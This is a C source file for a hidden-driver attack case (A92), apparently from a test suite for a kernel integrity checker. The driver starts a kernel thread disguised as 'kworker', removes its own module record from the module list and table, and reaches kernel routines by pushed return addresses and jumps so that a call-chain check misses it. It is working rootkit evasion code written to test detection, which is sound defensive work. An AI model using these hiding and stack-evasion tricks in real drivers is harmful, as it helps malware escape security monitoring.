/* attack_a92_jmp_thread (A92): a hidden driver's kernel thread whose calls
 * are no calls. As attack_a73 (thread_create and thread_sleep_ns from the
 * built image, written into the driver by the scenario with printk's
 * address for the kernel's random base), it starts a kernel thread of the
 * system process on its own routine and removes its module record from the
 * module list and the module table. But the routine reaches the kernel's
 * routines (sleeping 10 ms at a time, printing every 20 rounds) by pushing
 * its own return address and jumping: the return addresses on its stack
 * still lead into the hidden driver, they just do not follow a call
 * instruction, which is all the check of a thread's call chain looked for.
 * Expected: 0x109 type 0x19 (loaded module list). */
#include "attack.h"

struct process;

typedef struct thread *(*thread_create_fn)(struct process *p, const char *name, void (*fn)(void *), void *arg);

/* Set by the scenario from the built image's symbols. */
volatile uint64_t printk_at, thread_sleep_at, thread_create_at;

static struct ktimer wait_timer;
static struct dpc wait_dpc;
static struct module *self;
static uint64_t sleep_ns, print;
static volatile uint64_t rounds;

/* fn(a, b) entered by a jump, with the return address pushed by hand: the
 * bytes before it are a push and an indirect jmp, not a call. The kernel
 * is built without a red zone, so the push overwrites nothing. */
static uint64_t jmp_call(uint64_t fn, uint64_t a, uint64_t b)
{
	uint64_t ret;
	__asm__ volatile("lea 1f(%%rip), %%rax\n\t"
			 "push %%rax\n\t"
			 "jmp *%[fn]\n"
			 "1:"
			 : "=a"(ret), "+D"(a), "+S"(b), [fn] "+c"(fn)
			 :
			 : "rdx", "r8", "r9", "r10", "r11", "memory", "cc");
	return ret;
}

static const char round_fmt[] = "~ attack_a92: hidden thread, round %lu\n";

static void hidden(void *arg)
{
	for (;;) {
		jmp_call(sleep_ns, 10000000ull, 0);
		if (++rounds % 20 == 0)
			jmp_call(print, (uint64_t)round_fmt, rounds);
	}
}

static void attack(struct dpc *d, void *ctx)
{
	if (!thread_create_at || !thread_sleep_at || !printk_at)
		return;
	uint64_t slide = (uint64_t)&printk - printk_at;
	thread_create_fn create = (thread_create_fn)(thread_create_at + slide);
	sleep_ns = thread_sleep_at + slide;
	print = (uint64_t)&printk;
	thread_create_at = 0;
	timer_cancel(&wait_timer);
	if (!a_in_kernel_text((uint64_t)create) || !a_in_kernel_text(sleep_ns)) {
		printk("attack_a92: thread_create or thread_sleep_ns not in kernel text\n");
		return;
	}
	uint64_t pf = a_cli(); /* no pass between the patch and its report */
	if (!create(NULL, "kworker", hidden, NULL)) {
		a_restore(pf);
		printk("attack_a92: thread_create failed\n");
		return;
	}
	a_hide_module(self, a_module_slot(self));
	printk("attack_a92: a kernel thread runs the driver's code, calling by jumps; the driver hidden from the module list and table\n");
	a_patched("attack_a92");
	a_restore(pf);
}

status_t driver_entry(struct driver_object *drv)
{
	self = a_module_of(drv);
	dpc_init(&wait_dpc, attack, NULL);
	timer_init(&wait_timer, &wait_dpc);
	timer_set(&wait_timer, 1000000ull, 1000000ull);
	printk("attack_a92: waiting for the addresses of thread_create and thread_sleep_ns\n");
	return KPP_STATUS_SUCCESS;
}
